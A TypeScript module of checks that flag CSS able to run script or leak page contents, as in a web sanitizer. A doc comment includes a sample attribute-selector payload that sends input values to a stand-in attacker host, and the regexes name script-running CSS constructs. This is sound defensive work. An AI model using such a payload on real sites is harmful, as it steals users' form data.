/** Style sheets that run script or tell secrets. */
import { decodeEntities } from '../../text/entities.ts'

/** A style element longer than this is looked at in part. */
const LONGEST = 4096

/** Of fonts: editors and mails import them. */
const FONTS =
  /@import\s{0,8}(?:url\(\s{0,4})?["']?(?:https?:)?\/\/(?:fonts\.(?:googleapis|gstatic|bunny)\.|use\.typekit\.|fast\.fonts\.)/g

/** expression(…), behaviour, -moz-binding, script URLs, imports; also with comments, escapes and character references inside. */
export function isScriptStyle(value: string): boolean {
  const css = decodeEntities(value.slice(0, LONGEST))
    .replace(/\/\*[^*]{0,64}\*\//g, '')
    .replace(/\\0{0,4}([46-7][0-9a-f])\s?/gi, (_, hex: string) => String.fromCharCode(Number.parseInt(hex, 16)))
    .replace(/\\/g, '')
    .toLowerCase()
    .replace(FONTS, '')
  return /expression\s{0,8}\(|behaviou?r\s{0,8}:\s{0,8}url\s{0,4}\((?!\s{0,4}["']?#)|-moz-binding|javascript:|vbscript:|@import/.test(
    css,
  )
}

/** `input[value^=a]{background:url(//evil.example/a)}`: asks a host, character by character, what a page holds. */
export function isTellingStyle(css: string): boolean {
  return /\[\s{0,4}[\w-]{1,32}\s{0,4}[\^$*]=[^\]]{0,64}\][^{}]{0,128}\{[^{}]{0,256}url\s{0,4}\(\s{0,4}["']?(?:https?:)?\/\//.test(
    css.slice(0, LONGEST).toLowerCase(),
  )
}

/** A style sheet without markup: it runs script, or imports one of another host behind the end of a rule or at its beginning. */
export function runsAsStyle(lower: string): boolean {
  if (/url\s?\(\s?["']?(?:java|vb)script:|-moz-binding\s?:/.test(lower)) return true
  return /^[\s;}"'>]{0,16}@import[\s("']{0,8}(?:url\([\s"']{0,4})?(?:https?:)?\/\//.test(lower) && isScriptStyle(lower)
}
